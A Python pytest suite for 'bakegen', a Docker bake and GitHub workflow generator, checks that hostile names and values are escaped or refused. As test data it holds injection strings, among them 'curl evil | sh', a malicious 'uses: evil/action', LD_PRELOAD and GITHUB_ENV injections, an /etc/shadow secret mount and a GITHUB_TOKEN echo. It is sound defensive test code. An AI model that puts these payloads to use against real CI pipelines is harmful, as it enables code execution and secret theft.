"""Everything bakegen writes, fed hostile names and values (issue 25, "Trust"): each sink has one
escaper, and each file is read back the way its consumer reads it (the real `docker buildx bake
--print`, tomllib, yaml.safe_load, GitHub's parser of $GITHUB_ENV); bakegen writes only files
it owns, never through a link out of the repository."""

from __future__ import annotations

import json
import os
import tomllib
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from bakegen import cli, hcl
from bakegen.generate import load
from bakegen.model import BakegenError
from bakegen.sinks import github_file, terminal, toml_key, toml_string, visible, yaml_string
from bakegen.workflow import render_workflow
from bakegen.writer import check_destination

from .helpers import bake_print, write_tree

# A compose service and a folder whose names each try to write a target block of their own
# (bake merges two blocks of one name: they add a secret and ssh to the real `api`), reach the
# terminal with an escape sequence, and break out of a TOML string.
SERVICE = 'web\ntarget "api" {\n  secret = ["id=x,src=/etc/shadow"]\n}\n#'
FOLDER = 'evil\x1b[31mRED\u202e\ntarget "api" {\n  ssh = ["default"]\n}\n#'
TOML_FOLDER = 'odd"\n[targets.api.args]\nA = "1"\n#'  # a table of build args for the next emit
INJECTED = ("secret", "ssh", "entitlements", "network", "args", "contexts")  # none declared by the tree


def run(*args: str, env: dict[str, str] | None = None):
    return CliRunner().invoke(cli.main, list(args), catch_exceptions=False, env=env)


def one_line_exit_2(result, *words: str) -> None:
    """A refusal: exit 2, one line on stderr, no raw control character, naming what it is about."""
    assert result.exit_code == 2, result.output
    assert result.stderr.count("\n") == 1 and result.stderr.startswith("bakegen: error: "), result.stderr
    assert visible(result.stderr.rstrip("\n")) == result.stderr.rstrip("\n")
    for word in words:
        assert word in result.stderr


@pytest.fixture
def hostile(tmp_path) -> Path:
    root = tmp_path / "repo"
    write_tree(root, {
        "api/Dockerfile": "FROM alpine\n",
        "app/Dockerfile": "FROM alpine\n",
        f"{FOLDER}/Dockerfile": "FROM alpine\n",
        "docker-compose.yml": f"services:\n  {json.dumps(SERVICE)}:\n    build: ./app\n",
    })
    return root


# --- HCL -------------------------------------------------------------------------------------------


def test_names_in_comments_write_no_block_bake_reads(hostile):
    result = run("emit", str(hostile))
    assert result.exit_code == 0, result.output
    declared = set(load(hostile).targets)
    assert len(declared) == 3  # api, the folder's, the service's
    printed = bake_print(hostile, *declared)
    assert set(printed["target"]) == declared
    for name, target in printed["target"].items():
        assert not set(target) & set(INJECTED), (name, sorted(target))
    contexts = sorted(t["context"] for t in printed["target"].values())
    assert contexts == sorted(["api", "app", FOLDER])  # the hostile path read back byte for byte
    text = (hostile / "docker-bake.hcl").read_text()
    assert all(line == "" or line.startswith(("#", " ", "}", "target ", "group ", "variable ")) for line in
               text.splitlines())


def test_a_comment_is_one_printable_line():
    assert hcl.comment("a\nb\r\x1b[0m\u202ec\u2028d") == "# a\\x0ab\\x0d\\x1b[0m\\u202ec\\u2028d"
    assert hcl.comment("odd${HOME}dir/Dockerfile, é") == "# odd${HOME}dir/Dockerfile, é"  # printable: as it is


# --- terminal --------------------------------------------------------------------------------------


def test_no_escape_sequence_reaches_the_terminal(hostile):
    emitted = run("emit", str(hostile))
    graph = run("graph", str(hostile))
    assert emitted.exit_code == graph.exit_code == 0
    for out in (emitted.stderr, graph.stdout, graph.stderr):
        assert "\x1b" not in out and "\u202e" not in out and "\r" not in out
    assert "\\x1b[31mRED" in emitted.stderr  # shown, escaped
    for line in emitted.stderr.splitlines():  # each message one line: none starts with the name's text
        assert line.startswith(("bakegen: ", "wrote ")), line


def test_an_error_naming_a_hostile_path_is_one_escaped_line(tmp_path):
    one_line_exit_2(run("emit", str(tmp_path / "no\x1b]0;pwned\x07\nsuch")), "\\x1b]0;pwned\\x07\\x0asuch")


def test_terminal_keeps_lines_and_tabs_and_escapes_the_rest():
    assert terminal("a\tb\nc\x1bd\r\n\x9b") == "a\tb\nc\\x1bd\\x0d\n\\x9b"
    assert visible("line\nbreak\t") == "line\\x0abreak\\x09"
    assert visible("\udcff") == "\\udcff"  # a byte that was not UTF-8


def test_bench_markdown_cells_are_one_line():
    from bakegen.bench import report
    from bakegen.bench.results import BenchRun, ScenarioResult

    run_ = BenchRun(scenarios=[ScenarioResult(name="noop", skipped="no\n| x | y |\x1b[2J")], services={},
                    machine={"builder": "b\n## injected"})
    text = report.to_markdown(run_, [])
    assert "\x1b" not in text and "\n## injected" not in text and "\n| x | y |" not in text


# --- TOML ------------------------------------------------------------------------------------------


def test_init_writes_no_table_or_key_the_tree_did_not_make(tmp_path):
    root = write_tree(tmp_path / "repo", {
        "api/Dockerfile": "FROM alpine\n", "app/Dockerfile": "FROM alpine\n",
        f"{TOML_FOLDER}/Dockerfile": "FROM alpine\n", f"{FOLDER}/Dockerfile": "FROM alpine\n",
        "docker-compose.yml": f"services:\n  {json.dumps(TOML_FOLDER)}:\n    build: ./app\n"})
    result = run("init", str(root))
    assert result.exit_code == 0, result.output
    config = tomllib.loads((root / "bakegen.toml").read_text())
    assert set(config) <= {"project", "cache", "images", "names", "targets"}
    declared = set(load(root).targets)
    assert set(config["targets"]) == declared and len(declared) == 4
    for name, target in config["targets"].items():
        assert set(target) <= {"kind", "context", "dockerfile", "stage"}, (name, target)
    assert sorted(t["context"] for t in config["targets"].values()) == sorted(["api", "app", TOML_FOLDER, FOLDER])
    assert "\x1b" not in result.stderr
    again = run("emit", str(root))  # the next emit reads it: still nothing injected
    assert again.exit_code == 0, again.output
    assert not any(set(t) & set(INJECTED) for t in bake_print(root, *declared)["target"].values())


def test_init_keeps_a_renamed_hostile_key_a_key(tmp_path):
    """Two folders whose names say the same give [names] entries keyed by their paths."""
    root = write_tree(tmp_path / "repo", {'a"]\n[x]/svc/Dockerfile': "FROM alpine\n", "b/svc/Dockerfile": "FROM alpine\n"})
    result = run("init", str(root))
    assert result.exit_code == 0, result.output
    config = tomllib.loads((root / "bakegen.toml").read_text())
    assert "x" not in config and set(config.get("names", {})) <= {'a"]\n[x]/svc/Dockerfile', "b/svc/Dockerfile"}


@given(st.text(st.characters(exclude_categories=("Cs",))))
@settings(max_examples=300, deadline=None)
def test_toml_strings_and_keys_read_back_exactly(text):
    assert tomllib.loads(f"k = {toml_string(text)}")["k"] == text
    assert tomllib.loads(f"{toml_key(text or 'k')} = 1") == {text or "k": 1}


def test_toml_refuses_what_is_not_unicode():
    with pytest.raises(BakegenError, match=r"\\udc80.*not UTF-8"):
        toml_string("a\udc80")


# --- YAML: the workflow ----------------------------------------------------------------------------


CI_HOSTILE = {
    "runner_labels": ["gpu\n    env:\n      LD_PRELOAD: /tmp/evil.so", "x # comment", "]"],
    "builder": 'b"\n          LD_PRELOAD: /tmp/evil.so',
    "max_storage": "1GB\n      - run: curl evil | sh",
    "install": "bakegen #\n        run: curl evil | sh",
    "test_command": "pytest\n      - uses: evil/action@main",
    "bench_args": "--repeat 1\x1b[2J\u2028",
}


def _workflow_shape(text: str) -> tuple:
    """What the workflow does: its jobs, each step's keys and env names."""
    doc = yaml.safe_load(text)
    return tuple((job, tuple(sorted(doc["jobs"][job])), tuple((tuple(sorted(s)), tuple(sorted(s.get("env", {}))))
                                                          for s in doc["jobs"][job]["steps"])) for job in doc["jobs"])


def test_ci_values_are_data_in_the_workflow(tmp_path):
    from bakegen.config import load_project

    project = load_project(write_tree(tmp_path, {"api/Dockerfile": "FROM alpine\n"}))
    project.ci.test_command = "pytest"
    plain = render_workflow(project)
    for key, value in CI_HOSTILE.items():
        setattr(project.ci, key, tuple(value) if key == "runner_labels" else value)
    text = render_workflow(project)
    assert _workflow_shape(text) == _workflow_shape(plain)  # no job, step or env key added
    doc = yaml.safe_load(text)
    assert doc["jobs"]["build"]["runs-on"] == CI_HOSTILE["runner_labels"]
    env = {k: v for job in doc["jobs"].values() for s in job["steps"] for k, v in s.get("env", {}).items()}
    assert (env["BUILDER"], env["MAX_STORAGE"], env["BAKEGEN_INSTALL"], env["TEST_COMMAND"], env["BENCH_ARGS"]) == (
        CI_HOSTILE["builder"], CI_HOSTILE["max_storage"], CI_HOSTILE["install"], CI_HOSTILE["test_command"],
        CI_HOSTILE["bench_args"])
    assert "\x1b" not in text


def test_ci_through_the_command_ends_in_a_file_or_one_line(tmp_path):
    config = "[ci]\n" + "".join(f"{k} = {json.dumps(v)}\n" for k, v in CI_HOSTILE.items() if k != "bench_args")
    root = write_tree(tmp_path / "repo", {"api/Dockerfile": "FROM alpine\n", "bakegen.toml": config})
    result = run("ci", str(root))
    if result.exit_code == 2:  # a config check may refuse these values: then in one line
        one_line_exit_2(result)
        return
    assert result.exit_code == 0, result.output
    doc = yaml.safe_load((root / ".github/workflows/bakegen.yml").read_text())
    assert doc["jobs"]["gpu"]["runs-on"] == CI_HOSTILE["runner_labels"]


def test_a_github_expression_in_a_ci_value_is_refused(tmp_path):
    root = write_tree(tmp_path / "repo", {"api/Dockerfile": "FROM alpine\n",
                                          "bakegen.toml": '[ci]\ntest_command = "echo ${{ secrets.GITHUB_TOKEN }}"\n'})
    one_line_exit_2(run("ci", str(root)), "ci.test_command", "${{")
    assert not (root / ".github").exists()


@given(st.text(st.characters(exclude_categories=("Cs",))).filter(lambda t: "${{" not in t))
@settings(max_examples=300, deadline=None)
def test_yaml_scalars_read_back_exactly(text):
    assert yaml.safe_load(f"k: {yaml_string(text, 'k')}\nother: 1") == {"k": text, "other": 1}


# --- $GITHUB_ENV and $GITHUB_OUTPUT ----------------------------------------------------------------


def parse_github_file(text: str) -> dict[str, str]:
    """$GITHUB_ENV as the runner reads it on Linux (actions/runner, FileCommandManager): lines
    split at \\n; `NAME=value`, or `NAME<<DELIMITER` then lines up to one equal to DELIMITER."""
    values: dict[str, str] = {}
    lines = text.split("\n")
    i = 0
    while i < len(lines):
        line = lines[i]
        i += 1
        if not line:
            continue
        eq, heredoc = line.find("="), line.find("<<")
        if eq >= 0 and (heredoc < 0 or eq < heredoc):
            name, value = line.split("=", 1)
        elif heredoc >= 0:
            name, delimiter = line.split("<<", 1)
            body = []
            while lines[i] != delimiter:  # IndexError: the runner's "Matching delimiter not found"
                body.append(lines[i])
                i += 1
            i += 1
            value = "\n".join(body)
        else:
            raise ValueError(f"Invalid format {line!r}")
        assert name, "an empty name"
        values[name] = value
    return values


@given(st.dictionaries(st.from_regex(r"[A-Z_][A-Z0-9_]{0,8}", fullmatch=True),
                       st.text(st.characters(exclude_categories=("Cs",)))))
@settings(max_examples=300, deadline=None)
def test_github_files_read_back_exactly(values):
    assert parse_github_file(github_file(values)) == values


def test_ci_plan_adds_no_variable_through_a_ref_or_a_config_value(tmp_path):
    root = write_tree(tmp_path / "repo", {"api/Dockerfile": "FROM alpine\n",
                                          "bakegen.toml": '[ci]\nregistry = "ghcr.io/x\\nLD_PRELOAD=/tmp/r.so"\n'})
    env_file, output_file = tmp_path / "env", tmp_path / "output"
    env_file.write_text("")
    output_file.write_text("")
    ref = "refs/heads/x\nLD_PRELOAD=/tmp/evil.so\nBASH_ENV<<EOF"
    result = run("ci-plan", str(root), env={
        "GITHUB_EVENT_NAME": "push", "GITHUB_REF": ref, "GITHUB_SHA": "0" * 40, "GITHUB_REPOSITORY": "o/r",
        "GITHUB_ENV": str(env_file), "GITHUB_OUTPUT": str(output_file)})
    if result.exit_code == 2:  # a config check may refuse the registry: then in one line
        one_line_exit_2(result)
        return
    assert result.exit_code == 0, result.output
    variables = parse_github_file(env_file.read_text())
    assert set(variables) == {"REGISTRY", "TAG", "SOURCE", "REVISION", "BRANCH", "CACHE_EXPORT", "PUSH"}
    assert variables["BRANCH"] == ref.removeprefix("refs/heads/")
    assert variables["REGISTRY"] == "ghcr.io/x\nLD_PRELOAD=/tmp/r.so"
    assert set(parse_github_file(output_file.read_text())) == {"build", "push", "bases", "services", "reused",
                                                               "reused_metadata", "overlay", "smoke"}
    assert all(line.startswith(("bakegen ci-plan: ", "  ")) for line in result.stdout.splitlines())


# --- where bakegen writes --------------------------------------------------------------------------


@pytest.fixture
def repo(tmp_path) -> Path:
    return write_tree(tmp_path / "repo", {"api/Dockerfile": "FROM alpine\n"})


@pytest.fixture
def outside(tmp_path) -> Path:
    """A file outside the repository that a link in it points at."""
    path = tmp_path / "outside" / "precious"
    path.parent.mkdir()
    path.write_bytes(b"# Generated by bakegen\nnot to be replaced\n")  # even bakegen's own mark
    return path


HAND_WRITTEN = b'target "app" {\n  context = "."\n}\n'


def test_a_hand_written_bake_file_is_kept(repo):
    (repo / "docker-bake.hcl").write_bytes(HAND_WRITTEN)
    one_line_exit_2(run("emit", str(repo)), "docker-bake.hcl: not written by bakegen", "-o another.hcl", "--force")
    assert (repo / "docker-bake.hcl").read_bytes() == HAND_WRITTEN
    assert run("emit", str(repo), "-o", str(repo / "generated.hcl")).exit_code == 0
    assert (repo / "docker-bake.hcl").read_bytes() == HAND_WRITTEN
    assert run("emit", str(repo), "--force").exit_code == 0
    assert (repo / "docker-bake.hcl").read_text().startswith("# Generated by bakegen")
    assert run("emit", str(repo)).exit_code == 0  # bakegen's own file: replaced without --force


def test_an_empty_bake_file_has_nothing_to_lose(repo):
    (repo / "docker-bake.hcl").write_bytes(b"")
    assert run("emit", str(repo)).exit_code == 0


def test_a_hand_written_workflow_is_kept(repo):
    workflow = repo / ".github/workflows/bakegen.yml"
    workflow.parent.mkdir(parents=True)
    workflow.write_bytes(b"name: mine\non: push\n")
    one_line_exit_2(run("ci", str(repo)), "not written by bakegen", "bakegen ci --force")
    assert workflow.read_bytes() == b"name: mine\non: push\n"
    assert run("ci", str(repo), "--force").exit_code == 0
    assert workflow.read_text().startswith("# Generated by `bakegen ci`")
    assert run("ci", str(repo)).exit_code == 0


@pytest.mark.parametrize(("link", "command"), [
    ("docker-bake.hcl", ("emit", "--force")),
    (".github/workflows/bakegen.yml", ("ci", "--force")),
    ("bakegen.toml", ("init", "--force")),
])
def test_no_write_through_a_link_out_of_the_repository(repo, outside, link, command):
    (repo / link).parent.mkdir(parents=True, exist_ok=True)
    (repo / link).symlink_to(outside)
    one_line_exit_2(run(command[0], str(repo), *command[1:]), "leads outside the repository")
    assert outside.read_bytes() == b"# Generated by bakegen\nnot to be replaced\n"
    assert sorted(p.name for p in outside.parent.iterdir()) == ["precious"]  # no temp file left there


def test_no_folder_made_through_a_link_out_of_the_repository(repo, outside):
    (repo / ".github").symlink_to(outside.parent)
    one_line_exit_2(run("ci", str(repo)), "leads outside the repository")
    assert sorted(p.name for p in outside.parent.iterdir()) == ["precious"]


def test_o_through_a_folder_linked_out_is_refused_and_outside_the_repository_is_the_users_choice(repo, outside):
    (repo / "out").symlink_to(outside.parent)
    one_line_exit_2(run("emit", str(repo), "-o", str(repo / "out" / "x.hcl")), "leads outside the repository")
    assert not (outside.parent / "x.hcl").exists()
    assert run("emit", str(repo), "-o", str(outside.parent / "y.hcl")).exit_code == 0  # named by the user
    assert run("emit", str(repo), "-o", os.devnull).exit_code == 0  # a device is written to, never replaced


def test_a_pipe_bakegen_did_not_name_is_refused_without_opening_it(repo):
    os.mkfifo(repo / "docker-bake.hcl")
    with pytest.raises(BakegenError, match="not a regular file"):
        check_destination(repo, repo / "docker-bake.hcl")
    assert check_destination(repo, repo / "docker-bake.hcl", given=True) == (repo / "docker-bake.hcl").resolve()


def test_a_bench_change_never_goes_through_a_link_out_of_the_repository(tmp_path):
    from bakegen.bench.changes import appended

    outside = tmp_path / "outside.py"
    outside.write_text("print('theirs')\n")
    root = tmp_path / "repo"
    (root / "svc").mkdir(parents=True)
    (root / "svc/app.py").symlink_to(outside)
    with pytest.raises(BakegenError, match="outside the repository"), appended(root / "svc/app.py", "# x\n", root=root):
        pass
    assert outside.read_text() == "print('theirs')\n"
